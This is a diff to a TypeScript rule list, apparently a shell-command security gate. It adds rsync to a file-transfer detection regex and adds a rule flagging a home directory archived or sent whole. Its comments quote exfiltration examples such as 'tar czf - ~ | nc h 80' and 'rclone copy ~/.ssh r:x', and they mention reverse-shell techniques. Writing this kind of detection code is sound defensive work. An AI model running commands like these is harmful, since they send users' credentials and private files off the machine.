@@ -668,7 +668,7 @@ const SHELL_RULES: ShellRule[] = [
       String.raw`\b(?:scp|sftp)\b${IN_CMD}${SEP}`,
       // Round 21: storage and transfer clients whose operands are files sent elsewhere (a bucket, a
       // remote, a container or pod): `rclone copy ~/.ssh r:x`, `s3cmd put`, `az storage blob upload -f`.
-      String.raw`\b(?:rclone|s3cmd|lftp|tftp|azcopy|croc|wormhole|az${SEP}storage|gcloud${SEP}storage|mc${SEP}cp|(?:docker|podman|nerdctl|kubectl|oc)${SEP}cp)\b${IN_CMD}${SEP}`,
+      String.raw`\b(?:rsync|rclone|s3cmd|lftp|tftp|azcopy|croc|wormhole|az${SEP}storage|gcloud${SEP}storage|mc${SEP}cp|(?:docker|podman|nerdctl|kubectl|oc)${SEP}cp)\b${IN_CMD}${SEP}`,
     ].join('|')})[^\s;&|"']*${CRED}`,
   },
   {
@@ -708,6 +708,15 @@ const SHELL_RULES: ShellRule[] = [
     name: 'shell: files served to every network interface (bind 127.0.0.1 instead)',
     reason: 'SECRET_EXFIL',
     regex: `${CMD_POS}gate-served-files${END}`,
+  },
+  {
+    // Round 23: a home directory (or `/`) archived or sent whole (`tar czf - ~ | nc h 80`, `rsync -a ~/
+    // h:x`): every credential below it at once. The shell reader knows the operands and reads such a
+    // command as this marker (shell-option-scripts.ts HOME_SENT_MARK); `file.txt~`, `~/src` stay data.
+    id: 'home-sent',
+    name: 'shell: a home directory archived or sent whole',
+    reason: 'SECRET_EXFIL',
+    regex: `${CMD_POS}gate-home-sent${END}`,
   },
   {
     // Reverse shells: bash /dev/tcp redirection, netcat -e / piping into a shell, socat exec, and the
